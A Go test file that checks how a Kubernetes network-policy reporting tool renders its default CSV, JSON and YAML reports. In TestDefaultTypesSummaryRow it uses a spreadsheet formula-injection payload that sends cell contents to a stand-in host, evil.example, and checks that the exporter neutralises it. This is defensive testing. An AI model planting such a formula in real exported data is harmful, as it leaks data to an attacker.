package report

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	v1 "github.com/evident-dev/evident/api/v1"
)

func defaultType(t *testing.T, name string) *v1.GlobalReportType {
	t.Helper()
	for _, rt := range DefaultTypes() {
		if rt.Name == name {
			return rt
		}
	}
	t.Fatalf("no default report type %q", name)
	return nil
}

func renderType(t *testing.T, rt *v1.GlobalReportType, format string, d *ReportData) string {
	t.Helper()
	for _, tt := range rt.Spec.DownloadTemplates {
		if tt.Name == format {
			out, err := Render(tt.Template, d)
			if err != nil {
				t.Fatalf("%s %s: %v", rt.Name, format, err)
			}
			return out
		}
	}
	t.Fatalf("%s has no format %s", rt.Name, format)
	return ""
}

// readCSV parses a rendered CSV strictly (every record the same length).
func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("rendered CSV does not parse: %v\n%s", err, text)
	}
	return recs
}

func TestDefaultTypesGolden(t *testing.T) {
	d := sortedFixture(t)
	for _, rt := range DefaultTypes() {
		ui, err := Render(rt.Spec.UISummaryTemplate.Template, d)
		if err != nil {
			t.Fatalf("%s UI summary: %v", rt.Name, err)
		}
		golden(t, rt.Name+"/"+rt.Spec.UISummaryTemplate.Name, ui)
		for _, tt := range rt.Spec.DownloadTemplates {
			golden(t, rt.Name+"/"+tt.Name, renderType(t, rt, tt.Name, d))
		}
	}
}

func TestDefaultTypesMetadata(t *testing.T) {
	types := DefaultTypes()
	var names []string
	for _, rt := range types {
		names = append(names, rt.Name)
		if got := rt.Labels[v1.LabelGlobalReportType]; got != rt.Name {
			t.Errorf("%s: label %s = %q", rt.Name, v1.LabelGlobalReportType, got)
		}
		if errs := rt.Validate(Validate); len(errs) > 0 {
			t.Errorf("%s: %v", rt.Name, errs.ToAggregate())
		}
	}
	if diff := cmp.Diff([]string{"inventory", "network-access", "policy-audit", "cis-benchmark"}, names); diff != "" {
		t.Errorf("default types (-want +got):\n%s", diff)
	}
	if s := defaultType(t, "network-access").Spec; !s.IncludeEndpointData || !s.IncludeEndpointFlowLogData {
		t.Errorf("network-access must include endpoint and flow data: %+v", s)
	}
	if s := defaultType(t, "inventory").Spec; !s.IncludeEndpointData || s.IncludeEndpointFlowLogData || s.AuditEventsSelection != nil {
		t.Errorf("inventory data selection: %+v", s)
	}
	if s := defaultType(t, "cis-benchmark").Spec; !s.IncludeCISBenchmarkData || s.IncludeEndpointData {
		t.Errorf("cis-benchmark data selection: %+v", s)
	}
	var resources []string
	for _, r := range defaultType(t, "policy-audit").Spec.AuditEventsSelection.Resources {
		if r.APIGroup != "" || r.APIVersion != "" || r.Name != "" || r.Namespace != "" {
			t.Errorf("policy-audit selects more than a resource: %+v", r)
		}
		resources = append(resources, r.Resource)
	}
	slices.Sort(resources)
	want := []string{"globalnetworkpolicies", "networkpolicies", "stagedglobalnetworkpolicies",
		"stagedkubernetesnetworkpolicies", "stagednetworkpolicies"}
	if diff := cmp.Diff(want, resources); diff != "" {
		t.Errorf("policy-audit resources (-want +got):\n%s", diff)
	}
	// A fresh copy each call.
	a, b := DefaultTypes(), DefaultTypes()
	a[0].Spec.DownloadTemplates[0].Name = "changed"
	if b[0].Spec.DownloadTemplates[0].Name == "changed" {
		t.Error("DefaultTypes returns shared objects")
	}
	if m, ok := DefaultTypeManifest("inventory"); !ok || !strings.Contains(string(m), "name: inventory") {
		t.Error("DefaultTypeManifest(inventory) missing")
	}
	if _, ok := DefaultTypeManifest("nope"); ok {
		t.Error("DefaultTypeManifest(nope) found")
	}
}

func TestDefaultTypesLoad(t *testing.T) {
	for _, name := range defaultTypeFiles() {
		data, _ := DefaultTypeManifest(strings.TrimSuffix(name, ".yaml"))
		if _, err := v1.Load(name, data, Validate); err != nil {
			t.Errorf("Load %s: %v", name, err)
		}
	}
}

var selectorEcho = []string{"startTime", "endTime", "endpointSelector", "namespaceNames", "namespaceSelector",
	"serviceAccountNames", "serviceAccountSelectors"}

func TestDefaultTypesHeadings(t *testing.T) {
	with := func(extra ...string) []string { return append(slices.Clone(selectorEcho), extra...) }
	cisTests := []string{"nodeName", "testIndex", "testDescription", "status", "scored", "remediation"}
	tests := []struct {
		typ, format string
		want        []string
	}{
		{"inventory", "summary.csv", with("endpointsNumInScope", "endpointsNumIngressProtected",
			"endpointsNumEgressProtected", "namespacesNumInScope", "namespacesNumIngressProtected",
			"namespacesNumEgressProtected", "serviceAccountsNumInScope")},
		{"inventory", "endpoints.csv", []string{"endpoint", "ingressProtected", "egressProtected", "envoyEnabled",
			"appliedPolicies", "services"}},
		{"inventory", "namespaces.csv", []string{"namespace", "ingressProtected", "egressProtected", "envoyEnabled"}},
		{"inventory", "services.csv", []string{"service", "ingressProtected", "envoyEnabled"}},
		{"network-access", "summary.csv", with("endpointsNumIngressProtected", "endpointsNumEgressProtected",
			"endpointsNumIngressUnprotected", "endpointsNumEgressUnprotected", "endpointsNumIngressFromInternet",
			"endpointsNumEgressToInternet", "endpointsNumIngressFromOtherNamespace",
			"endpointsNumEgressToOtherNamespace", "endpointsNumEnvoyEnabled")},
		{"network-access", "endpoints.csv", []string{"endpoint", "ingressProtected", "egressProtected",
			"ingressFromInternet", "egressToInternet", "ingressFromOtherNamespace", "egressToOtherNamespace",
			"envoyEnabled", "appliedPolicies", "trafficAggregationPrefix",
			"endpointsGeneratingTrafficToThisEndpoint", "endpointsReceivingTrafficFromThisEndpoint"}},
		{"policy-audit", "summary.csv", with("numCreatedPolicies", "numModifiedPolicies", "numDeletedPolicies")},
		{"cis-benchmark", "all-tests.csv", cisTests},
		{"cis-benchmark", "failed-tests.csv", cisTests},
		{"cis-benchmark", "node-summary.csv", []string{"node", "version", "status", "testsPassing", "testsFailing",
			"testsUnknown", "testsTotal"}},
		{"cis-benchmark", "total-summary.csv", []string{"startTime", "endTime", "type", "hiPercentThreshold",
			"medPercentThreshold", "hiNodeCount", "medNodeCount", "lowNodeCount"}},
	}
	d := sortedFixture(t)
	var formats []string
	for _, tc := range tests {
		t.Run(tc.typ+"/"+tc.format, func(t *testing.T) {
			rt := defaultType(t, tc.typ)
			out := renderType(t, rt, tc.format, d)
			if !strings.HasPrefix(out, strings.Join(tc.want, ",")+"\n") {
				t.Errorf("does not start with the heading line:\n%s", out)
			}
			recs := readCSV(t, out)
			if diff := cmp.Diff(tc.want, recs[0]); diff != "" {
				t.Errorf("headings (-want +got):\n%s", diff)
			}
		})
		formats = append(formats, tc.typ+"/"+tc.format)
	}
	// Every CSV of every default type is covered above.
	for _, rt := range DefaultTypes() {
		for _, tt := range rt.Spec.DownloadTemplates {
			if strings.HasSuffix(tt.Name, ".csv") && !slices.Contains(formats, rt.Name+"/"+tt.Name) {
				t.Errorf("no heading test for %s/%s", rt.Name, tt.Name)
			}
		}
	}
}

func TestDefaultTypesSummaryRow(t *testing.T) {
	d := sortedFixture(t)
	recs := readCSV(t, renderType(t, defaultType(t, "network-access"), "summary.csv", d))
	if len(recs) != 2 {
		t.Fatalf("summary.csv has %d records, want 2", len(recs))
	}
	row := recs[1]
	want := []string{
		"2026-03-02T00:00:00Z", "2026-03-09T00:00:00Z",
		`app in {"api", "web"} && env == "prod"`, // commas and quotes stay in one field
		"payroll;billing",
		`'=HYPERLINK("http://evil.example/?d="&A1)`, // neutralised
		"api;web",
		`'@team in {'pay', 'bill'}`,
		"3", "1", "1", "3", "2", "1", "1", "1", "1",
	}
	if diff := cmp.Diff(want, row); diff != "" {
		t.Errorf("summary row (-want +got):\n%s", diff)
	}
	out := renderType(t, defaultType(t, "network-access"), "summary.csv", d)
	if !strings.Contains(out, `,"app in {""api"", ""web""} && env == ""prod""",`) {
		t.Errorf("selector not quoted per RFC 4180:\n%s", out)
	}
	// With no endpoints selection the echo columns are empty.
	d.ReportSpec.Endpoints = nil
	recs = readCSV(t, renderType(t, defaultType(t, "inventory"), "summary.csv", d))
	if diff := cmp.Diff([]string{"", "", "", "", ""}, recs[1][2:7]); diff != "" {
		t.Errorf("echo columns without a selection (-want +got):\n%s", diff)
	}
}

func TestDefaultTypesRowsSorted(t *testing.T) {
	d := sortedFixture(t)
	check := func(typ, format string, want []string) {
		t.Helper()
		recs := readCSV(t, renderType(t, defaultType(t, typ), format, d))
		var got []string
		for _, r := range recs[1:] {
			got = append(got, r[0]+" "+r[1])
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s %s rows (-want +got):\n%s", typ, format, diff)
		}
	}
	check("inventory", "endpoints.csv", []string{
		"HostEndpoint(node-a-eth0) false",
		"Pod.v1(billing/web-5d8f-abcde) true",
		"Pod.v1(payroll/api-0) true",
		"Pod.v1(payroll/api-1) true",
	})
	check("inventory", "services.csv", []string{
		"Service.v1(billing/web) true", "Service.v1(billing/web-canary) true", "Service.v1(payroll/api) true",
	})
	check("inventory", "namespaces.csv", []string{"Namespace.v1(billing) true", "Namespace.v1(payroll) true"})
	check("cis-benchmark", "failed-tests.csv", []string{"node-a 1.1.10", "node-a 1.2.1", "node-b 1.1.10"})
	check("cis-benchmark", "all-tests.csv", []string{
		"node-a 1.1.2", "node-a 1.1.10", "node-a 1.2.1", "node-a 1.2.2",
		"node-b 1.1.2", "node-b 1.1.10", "node-b 1.2.1", "node-b 1.2.2",
		"node-c 1.1.2", "node-c 1.1.10", "node-c 1.2.1", "node-c 1.2.2",
	})
	check("cis-benchmark", "node-summary.csv", []string{"node-a 1.33.2", "node-b 1.32.5", "node-c 1.33.2"})
}

func TestNetworkAccessEndpoints(t *testing.T) {
	recs := readCSV(t, renderType(t, defaultType(t, "network-access"), "endpoints.csv", sortedFixture(t)))
	got := map[string][]string{}
	for _, r := range recs[1:] {
		got[r[0]] = r[8:]
	}
	want := map[string][]string{
		"HostEndpoint(node-a-eth0)": {"", "node-a", "", "Private"},
		"Pod.v1(billing/web-5d8f-abcde)": {
			"GlobalNetworkPolicy(security.default-deny);NetworkPolicy(billing/default.allow-lb)",
			"web-5d8f-*", "NetworkSet(billing/lb-ranges);Public", "Pod.v1(payroll/api-*)"},
		"Pod.v1(payroll/api-0)": {"NetworkPolicy.networking.k8s.io/v1(payroll/allow-web)",
			"api-*", "Pod.v1(billing/web-5d8f-*)", "GlobalNetworkSet(partner-feeds)"},
		"Pod.v1(payroll/api-1)": {
			"GlobalNetworkPolicy(security.default-deny);NetworkPolicy.networking.k8s.io/v1(payroll/allow-web)",
			"api-*", "Pod.v1(billing/web-5d8f-*)", "GlobalNetworkSet(partner-feeds)"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("endpoint policies and traffic (-want +got):\n%s", diff)
	}
}

func TestCISFormulaNeutralised(t *testing.T) {
	out := renderType(t, defaultType(t, "cis-benchmark"), "failed-tests.csv", sortedFixture(t))
	recs := readCSV(t, out)
	if got := recs[2][5]; got != "'--anonymous-auth=false" {
		t.Errorf("remediation = %q, want it neutralised", got)
	}
	all := readCSV(t, renderType(t, defaultType(t, "cis-benchmark"), "all-tests.csv", sortedFixture(t)))
	if got := all[4][5]; got != `Follow the documentation, "Static Token File", and remove the flag` {
		t.Errorf("remediation with commas and quotes = %q", got)
	}
	total := readCSV(t, renderType(t, defaultType(t, "cis-benchmark"), "total-summary.csv", sortedFixture(t)))
	if diff := cmp.Diff([]string{"2026-03-02T00:00:00Z", "2026-03-09T00:00:00Z", "kube", "90", "40", "1", "1", "1"}, total[1]); diff != "" {
		t.Errorf("total summary (-want +got):\n%s", diff)
	}
}

// uiSummary is the shape every default UI summary has.
type uiSummary struct {
	Heading string `json:"heading"`
	Type    string `json:"type"`
	Widgets []struct {
		Type    string `json:"type"`
		Heading string `json:"heading"`
		Summary *struct {
			Label string `json:"label"`
			Total *int   `json:"total"`
		} `json:"summary"`
		Data []struct {
			Label string `json:"label"`
			Value *int   `json:"value"`
			Desc  string `json:"desc"`
		} `json:"data"`
		TopFailedTests *struct {
			Tests []struct {
				Index       string `json:"index"`
				Description string `json:"description"`
				FailedCount string `json:"failedCount"`
			} `json:"tests"`
		} `json:"topFailedTests"`
	} `json:"widgets"`
}

func TestDefaultTypesUISummary(t *testing.T) {
	tests := []struct {
		typ, heading, kind string
		widgets            []string // type/heading/label=value...
	}{
		{"inventory", "Inscope vs Protected", "panel", []string{
			"radialbarchart/Endpoints/Total=4/Protected ingress=3/Protected egress=1",
			"radialbarchart/Namespaces/Total=2/Protected ingress=2/Protected egress=0"}},
		{"network-access", "Inscope vs Protected", "panel", []string{
			"radialbarchart/Endpoints/Total=4/Protected ingress=3/Protected egress=1",
			"radialbarchart/Namespaces/Total=2/Protected ingress=2/Protected egress=0"}},
		{"policy-audit", "Network Policy Configuration Changes", "panel", []string{
			"radialbarchart/Created/Total=4/Created=1",
			"radialbarchart/Modified/Total=4/Modified=2",
			"radialbarchart/Deleted/Total=4/Deleted=1"}},
		{"cis-benchmark", "Kubernetes CIS Benchmark", "row", []string{
			"cis-benchmark-nodes/Node Failure Summary/Total=3/HIGH=1/MED=1/LOW=1",
			"cis-benchmark-tests/Top Failed Tests/1.1.10=2/1.2.1=1"}},
	}
	for _, variant := range []string{"fixture", "empty"} {
		for _, tc := range tests {
			t.Run(variant+"/"+tc.typ, func(t *testing.T) {
				d := sortedFixture(t)
				if variant == "empty" {
					d = &ReportData{}
				}
				out, err := Render(defaultType(t, tc.typ).Spec.UISummaryTemplate.Template, d)
				if err != nil {
					t.Fatal(err)
				}
				if !json.Valid([]byte(out)) {
					t.Fatalf("not valid JSON:\n%s", out)
				}
				var s uiSummary
				dec := json.NewDecoder(strings.NewReader(out))
				dec.DisallowUnknownFields()
				if err := dec.Decode(&s); err != nil {
					t.Fatalf("unexpected shape: %v\n%s", err, out)
				}
				if s.Heading != tc.heading || s.Type != tc.kind {
					t.Errorf("heading, type = %q, %q", s.Heading, s.Type)
				}
				if variant == "fixture" {
					if diff := cmp.Diff(tc.widgets, flattenWidgets(t, s)); diff != "" {
						t.Errorf("widgets (-want +got):\n%s", diff)
					}
				}
			})
		}
	}
}

func flattenWidgets(t *testing.T, s uiSummary) []string {
	var out []string
	for _, w := range s.Widgets {
		parts := []string{w.Type, w.Heading}
		if w.Summary != nil {
			if w.Summary.Total == nil {
				t.Errorf("widget %s has no total", w.Heading)
				continue
			}
			parts = append(parts, w.Summary.Label+"="+itoa(*w.Summary.Total))
		}
		for _, d := range w.Data {
			if d.Value == nil {
				t.Errorf("widget %s: %s has no value", w.Heading, d.Label)
				continue
			}
			parts = append(parts, d.Label+"="+itoa(*d.Value))
		}
		if w.TopFailedTests != nil {
			for _, ft := range w.TopFailedTests.Tests {
				if ft.Description == "" {
					t.Errorf("failed test %s has no description", ft.Index)
				}
				parts = append(parts, ft.Index+"="+ft.FailedCount)
			}
		}
		out = append(out, strings.Join(parts, "/"))
	}
	return out
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

func TestPolicyAuditEvents(t *testing.T) {
	d := sortedFixture(t)
	rt := defaultType(t, "policy-audit")
	var events []map[string]any
	if err := json.Unmarshal([]byte(renderType(t, rt, "events.json", d)), &events); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, e := range events {
		ids = append(ids, e["auditID"].(string)[len("0b8a4c1e-0001-4e0f-9a51-"):])
		if _, ok := e["objectRef"].(map[string]any)["resource"]; !ok {
			t.Errorf("event without camelCase objectRef.resource: %v", e)
		}
	}
	if diff := cmp.Diff([]string{"000000000001", "000000000002", "000000000003", "000000000004"}, ids); diff != "" {
		t.Errorf("events not in time order (-want +got):\n%s", diff)
	}
	y := renderType(t, rt, "events.yaml", d)
	if !strings.HasPrefix(y, "- apiVersion: audit.k8s.io/v1\n") || !strings.Contains(y, "  objectRef:\n") {
		t.Errorf("events.yaml:\n%s", y)
	}
	empty := &ReportData{}
	if got := renderType(t, rt, "events.json", empty); got != "[]\n" {
		t.Errorf("events.json of no events = %q", got)
	}
	if got := renderType(t, rt, "events.yaml", empty); got != "[]\n" {
		t.Errorf("events.yaml of no events = %q", got)
	}
}
